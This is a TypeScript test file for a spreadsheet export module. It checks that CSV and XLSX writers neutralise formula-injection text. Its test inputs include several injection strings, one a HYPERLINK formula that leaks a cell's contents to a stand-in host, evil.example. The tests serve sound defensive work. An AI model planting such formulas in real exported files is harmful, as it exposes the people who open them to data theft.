import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { escapeFormula, unescapeFormula } from "./escape";
import { toCsv, toXlsx, type Table } from "./write";

const DANGEROUS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2", '=HYPERLINK("http://evil.example/?"&A1,"Click")'];

describe("escapeFormula", () => {
  it("prefixes an apostrophe to text that a spreadsheet would run as a formula", () => {
    for (const s of DANGEROUS) expect(escapeFormula(s)).toBe(`'${s}`);
  });

  it("leaves other text alone", () => {
    for (const s of ["", "EN-1", "a=b", " =1", "50%", "Ann's plan", "'quoted"]) expect(escapeFormula(s)).toBe(s);
  });

  it("is undone exactly by unescapeFormula, text that already starts with an apostrophe included", () => {
    for (const s of [...DANGEROUS, "'=1", "''-2", "'quoted", "EN-1", ""]) expect(unescapeFormula(escapeFormula(s))).toBe(s);
    expect(escapeFormula("'=1")).toBe("''=1");
    expect(unescapeFormula("'quoted")).toBe("'quoted");
  });
});

const table: Table = {
  sheetName: "Test: sheet/1",
  columns: [{ header: "Text" }, { header: "Number" }, { header: "Empty" }],
  rows: [...DANGEROUS.map((s, i) => [s, i, null]), ["Café, “quoted”\nsecond line", -5, null], ["bell\u0007 char", 0, null]],
};

describe("toCsv", () => {
  it("escapes every dangerous text cell, keeps numbers, and reads back as written", () => {
    const csv = toCsv(table);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(csv).toContain("\r\n");
    const records = parse(csv, { bom: true }) as string[][];
    expect(records[0]).toEqual(["Text", "Number", "Empty"]);
    expect(records.slice(1, DANGEROUS.length + 1).map((r) => r[0])).toEqual(DANGEROUS.map((s) => `'${s}`));
    expect(records.slice(1).every((r) => !/^[=+\-@\t\r]/.test(r[0]!))).toBe(true);
    // A number is a number, not text that could be a formula.
    expect(records[DANGEROUS.length + 1]).toEqual(["Café, “quoted”\nsecond line", "-5", ""]);
  });
});

describe("toXlsx", () => {
  it("writes text as string cells, never formulas, with the same values", async () => {
    const bytes = await toXlsx(table);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe("Test  sheet 1");
    expect(sheet.getRow(1).values).toEqual([undefined, "Text", "Number", "Empty"]);
    DANGEROUS.forEach((s, i) => {
      const cell = sheet.getCell(i + 2, 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a bare carriage return back as a line feed.
      expect(cell.value).toBe(s.replace("\r", "\n"));
      expect(sheet.getCell(i + 2, 2).value).toBe(i);
    });
    expect(sheet.getCell(DANGEROUS.length + 2, 2).value).toBe(-5);
    // Control characters XML cannot carry are dropped, not left to corrupt the file.
    expect(sheet.getCell(DANGEROUS.length + 3, 1).value).toBe("bell char");

    const xml = new TextDecoder().decode(unzipSync(new Uint8Array(bytes))["xl/worksheets/sheet1.xml"]);
    expect(xml).not.toMatch(/<f[\s>]/);
  });

  it("writes extra sheets after the first", async () => {
    const bytes = await toXlsx(table, { sheetName: "Read me", columns: [{ header: "Column" }], rows: [["Code"]] });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(["Test  sheet 1", "Read me"]);
  });
});
